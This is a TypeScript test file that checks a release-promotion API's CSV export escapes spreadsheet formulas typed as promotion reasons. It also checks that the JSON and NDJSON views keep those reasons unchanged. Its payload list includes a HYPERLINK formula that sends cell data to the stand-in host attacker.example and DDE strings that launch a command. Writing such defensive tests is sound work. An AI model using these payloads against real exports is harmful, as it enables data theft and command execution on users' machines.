// CSV injection: a reason typed by a promoter must not run as a formula in the auditor's spreadsheet.
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { csvField } from "../../../src/http/api/csv.ts";
import { parseCsv } from "./csv-parse.ts";
import { type ApiHarness, startApiRelbot, tokens } from "./harness.ts";

let api: ApiHarness;
beforeAll(async () => {
  api = await startApiRelbot();
});
afterAll(() => api.stop());

describe("CSV injection", () => {
  // What a promoter can type as a reason, so that the auditor who opens the export in a spreadsheet runs it.
  const formulas = [
    '=HYPERLINK("https://attacker.example/?d="&A1,"details")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
  ];

  test("a formula typed as a promotion reason comes out of the CSV export as text, prefixed with '", async () => {
    for (const reason of formulas) {
      const response = await fetch(`${api.relbot.url}/api/v1/promotions`, {
        method: "POST",
        headers: { "Content-Type": "application/json", Authorization: `Bearer ${tokens.deployer}` },
        body: JSON.stringify({ app: "billing-svc", version: "v9.9.9", env: "dev", reason }),
      });
      expect(response.status).toBe(409);
    }
    const csv = await api.get("/api/v1/promotions?app=billing-svc&format=csv");
    const [header, ...rows] = parseCsv(await csv.text());
    const reasons = rows.map((row) => row[header!.indexOf("reason")]);
    expect(reasons.sort()).toEqual(formulas.map((f) => `'${f}`).sort());
    // The JSON and NDJSON views are not spreadsheets: they keep the reason exactly as typed.
    const ndjson = await api.get("/api/v1/promotions?app=billing-svc&format=ndjson");
    const typed = (await ndjson.text())
      .trimEnd()
      .split("\n")
      .map((line) => JSON.parse(line).reason);
    expect(typed.sort()).toEqual([...formulas].sort());
  });

  test("cells starting with =, +, -, @, tab or CR are neutralised; numbers and other text are not", () => {
    expect(csvField("=1+1")).toBe("'=1+1");
    expect(csvField("@A1")).toBe("'@A1");
    expect(csvField("-1")).toBe("'-1");
    expect(csvField("\tx")).toBe("'\tx");
    expect(csvField("\r=x")).toBe(`"'\r=x"`);
    expect(csvField("=a,b")).toBe(`"'=a,b"`);
    expect(csvField(-1)).toBe("-1");
    expect(csvField("v1.2.3-rc.1")).toBe("v1.2.3-rc.1");
    expect(csvField("a=b")).toBe("a=b");
  });
});
